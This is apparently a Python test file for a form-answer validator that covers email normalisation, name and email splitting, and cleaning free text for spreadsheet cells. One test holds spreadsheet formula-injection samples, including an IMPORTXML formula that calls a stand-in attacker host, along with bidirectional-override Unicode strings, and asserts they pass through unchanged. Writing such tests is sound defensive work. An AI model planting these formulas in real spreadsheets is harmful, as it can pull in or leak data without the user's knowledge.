"""Single answers: email addresses and free text made safe for a spreadsheet cell."""
from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from forms.model import CELL_LIMIT, Problem, is_control
from forms.validate import clean_text, email_fault, normalise_email, split_name_and_email


@pytest.mark.parametrize("written, expected", [
    ("jdarias@belmont.k12.ma.us", "jdarias@belmont.k12.ma.us"),
    ("  JDarias@Belmont.K12.MA.US \n", "jdarias@belmont.k12.ma.us"),
    ("mailto:t2l.lead@bostonpublicschools.org", "t2l.lead@bostonpublicschools.org"),
    ("first.o'brien+plt@wsfcs.k12.nc.us", "first.o'brien+plt@wsfcs.k12.nc.us"),
])
def test_valid_addresses_are_trimmed_and_lower_cased(written, expected):
    assert normalise_email(written) == (expected, None)


@pytest.mark.parametrize("written, fault", [
    ("jane.doe@", "there is nothing after the @"),
    ("@tulsaschools.org", "there is nothing before the @"),
    ("jane.doe", "it has no @"),
    ("jane@doe@x.org", "it has more than one @"),
    ("jane doe@x.org", "it contains a space or a line break"),
    ("jane\x00@x.org", "it contains a space or a line break"),
    ("ja\u200bne@x.org", "it contains characters an email address cannot have (accents or invisible marks)"),
    ("josé@x.org", "it contains characters an email address cannot have (accents or invisible marks)"),
    ("jane@localhost", "the part after the @ needs a dot, like school.org"),
    ("jane@-x.org", "the part after the @ is not a valid domain name"),
    ("jane@x..org", "the part after the @ is not a valid domain name"),
    ("jane@x.o", "the part after the @ does not end in a real domain ending, like .org"),
    ("jane@x.123", "the part after the @ does not end in a real domain ending, like .org"),
    (".jane@x.org", "the part before the @ has a misplaced dot"),
    ("ja..ne@x.org", "the part before the @ has a misplaced dot"),
    ("ja(ne@x.org", "the part before the @ has characters an address cannot have"),
    ("j" * 65 + "@x.org", "it is longer than an email address can be"),
    ("j@" + "a" * 250 + ".org", "it is longer than an email address can be"),
])
def test_invalid_addresses_say_why_in_plain_words(written, fault):
    assert email_fault(written.lower()) == fault
    address, note = normalise_email(written)
    assert address is None and note.severity == "error"
    assert note.reason.endswith(f"is not a valid email address ({fault})")


def test_reason_quotes_the_address_as_typed():
    _, note = normalise_email("jane.doe@")
    assert note.reason == "'jane.doe@' is not a valid email address (there is nothing after the @)"


@pytest.mark.parametrize("entry, expected", [
    ("Janice Darias <jdarias@x.org>", ("Janice Darias", "jdarias@x.org")),
    ("<jdarias@x.org>", ("", "jdarias@x.org")),
    ("jdarias@x.org (Janice Darias)", ("Janice Darias", "jdarias@x.org")),
    ("Janice Darias - jdarias@x.org", ("Janice Darias", "jdarias@x.org")),
    ("Janice Darias", ("Janice Darias", None)),
])
def test_name_and_email_are_told_apart(entry, expected):
    assert split_name_and_email(entry) == expected


@pytest.mark.parametrize("text", [
    '=IMPORTXML("http://evil.example/x", "//a")',
    "+SUM(A1:A9)",
    "@mention -1",
    "\u202eTeam Reading\u202c",
    "Na\u200bme\u200d with zero-width",
    "فريق القراءة",
    "Math 👩‍🏫🧮 team",
])
def test_hostile_looking_single_line_text_is_kept_exactly(text):
    assert clean_text(text) == (text, [])


def test_outer_whitespace_is_trimmed_and_nothing_else():
    assert clean_text("  \u00a0Reading  Team \t") == ("Reading  Team", [])


def test_nul_and_control_characters_are_removed_with_a_warning():
    text, notes = clean_text("Read\x00ing\x1b Team\x7f")
    assert text == "Reading Team"
    assert len(notes) == 1 and notes[0].severity == "warning"
    assert "removed 3 invisible control characters" in notes[0].reason


def test_line_breaks_in_a_single_line_answer_become_one_space_with_a_warning():
    text, notes = clean_text("Reading\r\nTeam\n")
    assert text == "Reading Team"
    assert [n.reason for n in notes] == ["line breaks and tabs were replaced by spaces"]


def test_multiline_answer_keeps_cr_lf_and_tabs_exactly():
    topic = "Goal:\r\n\tSMART goal for grade 4\nEvidence: MCAS"
    assert clean_text(topic, multiline=True) == (topic, [])


def test_answer_of_exactly_a_cells_length_is_kept_whole():
    text = "x" * CELL_LIMIT
    assert clean_text(text) == (text, [])


def test_answer_longer_than_a_cell_is_cut_to_the_cell_limit_with_a_warning():
    text, notes = clean_text("y" * (CELL_LIMIT + 7))
    assert text == "y" * CELL_LIMIT
    assert len(notes) == 1 and "50,007 characters" in notes[0].reason and "50,000" in notes[0].reason


def test_problem_value_shows_control_characters_as_escapes_and_fits_a_cell():
    problem = Problem("r1", "team_name", "a\x00b" + "z" * CELL_LIMIT, "reason\x07")
    assert problem.value.startswith("a\\x00b") and len(problem.value) == CELL_LIMIT
    assert problem.reason == "reason\\x07"


@given(st.text())
def test_cleaned_single_line_text_never_holds_a_control_character(raw):
    text, _ = clean_text(raw)
    assert not any(ord(c) < 0x20 or 0x7f <= ord(c) < 0xa0 for c in text)
    assert len(text) <= CELL_LIMIT and text == text.strip()


def test_control_characters_are_exactly_unicode_controls_and_surrogates():
    assert all(is_control(chr(code)) == (unicodedata.category(chr(code)) in ("Cc", "Cs"))
               for code in range(0x110000))
